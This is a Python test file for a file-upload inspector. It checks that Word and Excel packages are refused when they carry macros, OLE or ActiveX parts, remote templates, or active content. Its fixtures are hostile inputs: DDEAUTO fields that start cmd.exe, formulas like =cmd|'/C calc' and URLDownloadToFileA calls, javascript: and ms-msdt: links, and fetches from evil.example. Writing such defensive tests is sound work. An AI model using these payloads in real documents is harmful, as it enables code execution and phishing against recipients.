"""Office files that act, carry or load: refused for what they do, whatever their parts are called."""

import io
import zipfile

import pytest

from compliance.domain.errors import InvalidError
from compliance.inspection.refusal import RefusedFileError
from tests.inspection.looking import look
from tests.inspection.packages import (
    MICROSOFT,
    OLE,
    SHEET,
    changed,
    declared,
    document,
    field,
    packed,
    parts_of,
    related,
    run,
    with_body,
    with_default,
    with_formula,
    with_part,
    workbook,
)

MAIN, BOOK = "word/document.xml", "xl/workbook.xml"
OLE_TYPE = "application/vnd.openxmlformats-officedocument.oleObject"
CONNECTIONS = f'<connections {SHEET}><connection id="1" name="c" type="1" refreshOnLoad="1"/></connections>'.encode()
CONNECTION_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml"
LINKED = f'<externalLink {SHEET}><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'.encode()
MASHUP = '<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">AAAA</DataMashup>'.encode("utf-16")
OCX = b'<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{0}"/>'
RTF = rb"{\rtf1{\field{\*\fldinst DDEAUTO c:\\cmd.exe}}}"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
VML = b'<xml xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata src="http://evil.example/a.png"/></xml>'

DOCUMENTS = {
    "OLE part renamed to a picture": (
        "file_embedded", with_part("word/media/image9.emf1", OLE, with_default("emf1", "image/x-emf"),
                                   related(MAIN, "oleObject", "media/image9.emf1"))),
    "OLE part that only its bytes give away": (
        "file_embedded", with_part("word/media/image9.emf1", OLE, with_default("emf1", "image/x-emf"),
                                   related(MAIN, "image", "media/image9.emf1"))),
    "OLE part by its type": (
        "file_embedded", with_part("word/media/image9.dat", b"\0" * 40, declared("word/media/image9.dat", OLE_TYPE))),
    "DDE over two runs": ("file_field", with_body(field(run("DDEA"), run("UTO c:\\\\windows\\\\cmd.exe")))),
    "DDE letter by letter": ("file_field", with_body(field(*map(run, " DDEAUTO x")))),
    "DDE in numeric entities": ("file_field", with_body(field(run("&#68;DEAUTO c:\\cmd.exe")))),
    "DDE in hexadecimal entities": ("file_field", with_body(field(run("&#x44;&#x44;E c:\\cmd.exe")))),
    "DDE in UTF-16": ("file_field", with_body(field(run("DDEAUTO c:\\cmd.exe")), "utf-16")),
    "DDE in what was deleted": ("file_field", with_body(field("<w:r><w:delInstrText>DDE cmd x</w:delInstrText></w:r>"))),
    "DDE without a space": ("file_field", with_body(field(run('DDEAUTO"cmd"')))),
    "DDE before a backslash": ("file_field", with_body(field(run("DDEAUTO\\cmd")))),
    "DDE before a tab of Word's": ("file_field", with_body(field("<w:r><w:instrText>DDE</w:instrText><w:tab/><w:instrText>c</w:instrText></w:r>"))),
    "DDE behind what nobody sees": ("file_field", with_body(field(run("\u200bDDE cmd")))),
    "picture field without a space": ("file_remote", with_body(field(run('INCLUDEPICTURE"http://evil.example/a.png"')))),
    "picture field, its format first": ("file_remote", with_body(field(run('INCLUDEPICTURE \\* MERGEFORMAT "http://evil.example/a"')))),
    "script behind an anchor": ("file_link", with_body(field(run('HYPERLINK \\l "x" "javascript:alert(1)"')))),
    "picture that is linked": ("file_remote", with_body('<a:blip xmlns:a="a" xmlns:r="r" r:link="rId9"/>')),
    "DDE in small letters": ("file_field", with_body(field(run(' ddeauto "c:\\cmd.exe"')))),
    "DDE in quotes": ("file_field", with_body(field(run('"DDEAUTO" c:\\cmd.exe')))),
    "DDE in a simple field": ("file_field", with_body('<w:fldSimple w:instr="DDE cmd x"><w:r/></w:fldSimple>')),
    "DDE outside a field": ("file_field", with_body(run("DDE") + run("AUTO x"))),
    "DDE never ended": ("file_field", with_body('<w:r><w:fldChar w:fldCharType="begin"/></w:r>' + run("DDE c x"))),
    "DDE written by another field": (
        "file_field", with_body(field(field(run("QUOTE 68 68 69")), run(" c:\\cmd.exe")))),
    "DDE in a field in a field": ("file_field", with_body(field(run("IF 1 = 1 "), field(run("DDE c x"))))),
    "DDE as text over two runs": ("file_field", with_body("<w:r><w:t>DDEA</w:t></w:r><w:r><w:t>UTO c:</w:t></w:r>")),
    "DDE in a header": (
        "file_field", with_part("word/header9.xml", f"<w:hdr xmlns:w='w'>{field(run('DDE c x'))}</w:hdr>".encode(),
                                related(MAIN, "header", "header9.xml"))),
    "text from elsewhere": ("file_remote", with_body(field(run('INCLUDETEXT "http://evil.example/x.docx"')))),
    "picture from elsewhere in a field": (
        "file_remote", with_body(field(run('INCLUDEPICTURE "\\\\\\\\evil.example\\\\a.png"')))),
    "link field": ("file_remote", with_body(field(run("LINK Excel.Sheet.12 c:\\\\a.xlsx")))),
    "script in a link field": ("file_link", with_body(field(run('HYPERLINK "java&#x9;script:alert(1)"')))),
    "altChunk of RTF": (
        "file_embedded", with_part("word/afchunk.rtf", RTF, with_default("rtf", "application/rtf"),
                                   related(MAIN, "aFChunk", "afchunk.rtf"))),
    "altChunk of HTML under another name": (
        "file_embedded", with_part("word/styles9.xml", b"<html><script>1</script></html>",
                                   related(MAIN, "aFChunk", "styles9.xml"))),
    "RTF as a picture": ("file_embedded", with_part("word/media/a.png", RTF, with_default("png", "image/png"))),
    "a program as a picture": ("file_embedded", with_part("word/media/a.png", b"MZ\x90\0", with_default("png", "image/png"))),
    "a zip as a picture": ("file_embedded", with_part("word/media/a.png", document(), with_default("png", "image/png"))),
    "renamed vbaProject": (
        "file_macros", with_part("word/media/image7.png", OLE, with_default("png", "image/png"),
                                 related(MAIN, "vbaProject", "media/image7.png", base=MICROSOFT))),
    "vbaProject by its type": (
        "file_macros", with_part("word/a.dat", b"\0", declared("word/a.dat", "application/vnd.ms-office.vbaProject"))),
    "custom ribbon": (
        "file_macros", with_part("ui/a.xml", b"<customUI/>", related("", "ui/extensibility", "ui/a.xml", base=MICROSOFT))),
    "ActiveX": ("file_embedded", with_part("word/x.xml", OCX, related(MAIN, "control", "x.xml"))),
    "ActiveX by its root": ("file_embedded", with_part("word/x.xml", OCX)),
    "template from the web": (
        "file_remote", related("word/settings.xml", "attachedTemplate", "http://evil.example/t.dotm", outside=True)),
    "template from a share": (
        "file_remote", related("word/settings.xml", "attachedTemplate", "file:///\\\\evil.example\\t.dotm", outside=True)),
    "template from a server by file": (
        "file_remote", related("word/settings.xml", "attachedTemplate", "file://evil.example/t.dotm", outside=True)),
    "frame": ("file_remote", related("word/webSettings.xml", "frame", "http://evil.example/", outside=True)),
    "picture from the web": ("file_remote", related(MAIN, "image", "http://evil.example/a.png", outside=True)),
    "picture from the web, mode left out": ("file_remote", related(MAIN, "image", "http://evil.example/a.png")),
    "OLE link": ("file_embedded", related(MAIN, "oleObject", "http://evil.example/a", outside=True)),
    "subdocument": ("file_remote", related(MAIN, "subDocument", "file:///c:/a.docx", outside=True)),
    "mail merge": ("file_remote", related("word/settings.xml", "mailMergeSource", "file:///c:/a.mdb", outside=True)),
    "relationship in a strict name": (
        "file_embedded", related(MAIN, "oleObject", "x.bin", base="http://purl.oclc.org/ooxml/officeDocument/relationships/")),
    "script link": ("file_link", related(MAIN, "hyperlink", "javascript:alert(1)", outside=True)),
    "script link with a tab": ("file_link", related(MAIN, "hyperlink", "java&#9;script:alert(1)", outside=True)),
    "link to a tool of the system": ("file_link", related(MAIN, "hyperlink", "ms-msdt:/id PCWDiagnostic", outside=True)),
    "add-in": ("file_script", with_part("word/webext.xml", b"<webextension/>", related(MAIN, "webextension", "webext.xml"))),
    "script in a drawing": ("file_script", with_part("word/media/a.svg", SVG, with_default("svg", "image/svg+xml"))),
    "picture from the web in VML": ("file_remote", with_part("word/vml.vml", VML)),
    "embedded document": (
        "file_embedded", with_part("word/embeddings/a.docx", document(), with_default("docx", "application/x"),
                                   related(MAIN, "package", "embeddings/a.docx"))),
    "two parts of one name": ("file_two_faced", with_part("WORD/document.xml", b"<w/>")),
    "a document type": ("file_damaged", with_part("word/a.xml", b"<!DOCTYPE a><a/>")),
    "deep as a well": ("file_damaged", with_part("word/a.xml", b"<a>" * 500 + b"</a>" * 500)),
    "a film": ("file_embedded", with_part("word/media/a.mp4", b"\0\0\0\x18ftypmp42", with_default("mp4", "video/mp4"))),
}  # fmt: skip

WORKBOOKS = {
    "connection that refreshes on open": (
        "file_remote", with_part("xl/connections.xml", CONNECTIONS, declared("xl/connections.xml", CONNECTION_TYPE),
                                 related(BOOK, "connections", "connections.xml"))),
    "connection by its root": ("file_remote", with_part("xl/theme/a.xml", CONNECTIONS)),
    "query": ("file_remote", with_part("xl/queryTables/q.xml", b"<queryTable/>")),
    "DDE in an external link": (
        "file_remote", with_part("xl/externalLinks/e.xml", LINKED, related(BOOK, "externalLink", "externalLinks/e.xml"))),
    "DDE in a part with another name": ("file_remote", with_part("xl/theme/e.xml", LINKED)),
    "other workbook": ("file_remote", related(BOOK, "externalLinkPath", "http://evil.example/a.xlsx", outside=True)),
    "power query": ("file_remote", with_part("customXml/item1.xml", MASHUP)),
    "macro sheet": (
        "file_macros", with_part("xl/macrosheets/s.xml", b"<macrosheet/>", related(BOOK, "xlMacrosheet", "s.xml", base=MICROSOFT))),
    "macro sheet by its root": ("file_macros", with_part("xl/worksheets/s.xml", f"<macrosheet {SHEET}/>".encode())),
    "binary sheet": ("file_embedded", with_part("xl/worksheets/s.bin", b"\x01\x02", with_default("bin", "application/x"))),
}  # fmt: skip

FORMULAS = {
    "=cmd|'/C calc'!A0": "file_field",
    "=MSEXCEL|'\\..\\..\\cmd.exe /c calc'!''": "file_field",
    '=WEBSERVICE("http://evil.example/"&A1)': "file_remote",
    '=_xlfn.IMAGE("http://evil.example/a.png")': "file_remote",
    '=HYPERLINK("javascript:alert(1)","x")': "file_link",
    '=HYPERLINK("vbscript:x")': "file_link",
    '=CALL("urlmon","URLDownloadToFileA")': "file_remote",
    '=RTD("evil.server",,"x")': "file_remote",
    "=EXEC(\"calc\")": "file_remote",
    '=DDE("cmd","/c calc","x")': "file_field",
    "='http://evil.example/[x.xlsx]S'!A1": "file_remote",
    "='\\\\evil.example\\s\\[x.xlsx]S'!A1": "file_remote",
    "=SUM([x.xlsx]S!A1:A9)": "file_remote",
    '=_xlfn.STOCKHISTORY("x")': "file_remote",
}  # fmt: skip


def reason(data: bytes) -> str:
    with pytest.raises((RefusedFileError, InvalidError)) as refused:
        look(data)
    error = refused.value
    return error.message if isinstance(error, InvalidError) else error.code


@pytest.mark.parametrize("kind", DOCUMENTS)
def test_a_document_is_refused_for_what_it_does(kind: str) -> None:
    why, change = DOCUMENTS[kind]
    assert reason(changed(document(), change)) == why


@pytest.mark.parametrize("kind", WORKBOOKS)
def test_a_workbook_is_refused_for_what_it_does(kind: str) -> None:
    why, change = WORKBOOKS[kind]
    assert reason(changed(workbook(), change)) == why


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_that_calls_out_or_starts_a_program(formula: str) -> None:
    assert reason(with_formula(formula)) == FORMULAS[formula]


def test_a_name_that_runs_when_the_workbook_opens() -> None:
    def change(parts: dict[str, bytes]) -> None:
        name = b'<definedNames><definedName name="_xlnm.Auto_Open">Sheet!$A$1</definedName></definedNames>'
        parts[BOOK] = parts[BOOK].replace(b"<definedNames/>", b"").replace(b"</sheets>", b"</sheets>" + name)

    assert reason(changed(workbook(), change)) == "file_macros"


@pytest.mark.parametrize(
    "main",
    [
        "application/vnd.ms-word.document.macroEnabled.main+xml",
        "application/vnd.ms-word.template.macroEnabledTemplate.main+xml",
    ],
)
def test_a_macro_document_called_docx(main: str) -> None:
    parts = parts_of(document())
    types = parts["[Content_Types].xml"].decode()
    plain = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    parts["[Content_Types].xml"] = types.replace(plain, main).encode()
    assert reason(packed(parts)) == "file_macros"


def test_other_office_files_are_told_what_to_do() -> None:
    assert reason(OLE) == "file_old_office"
    assert reason(OLE + "EncryptedPackage".encode("utf-16-le")) == "file_locked"
    odt = {"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<office/>"}
    assert reason(packed(odt)) == "file_odf"
    assert reason(packed({"ppt/presentation.xml": b"<p/>"})) == "file_type"


def test_zeros_behind_the_zip_are_padding_and_words_are_not() -> None:
    assert look(document() + b"\0" * 500).endswith("document")
    assert reason(document() + b"%PDF-1.7") == "file_two_faced"
    assert reason(b"PK\x03\x04junk" + document()) == "file_two_faced"


@pytest.mark.parametrize("packing", [zipfile.ZIP_LZMA, zipfile.ZIP_BZIP2])
def test_a_package_that_no_office_program_opens(packing: int) -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", packing) as archive:
        for name, content in parts_of(document()).items():
            archive.writestr(name, content)
    assert reason(out.getvalue()) == "file_damaged"
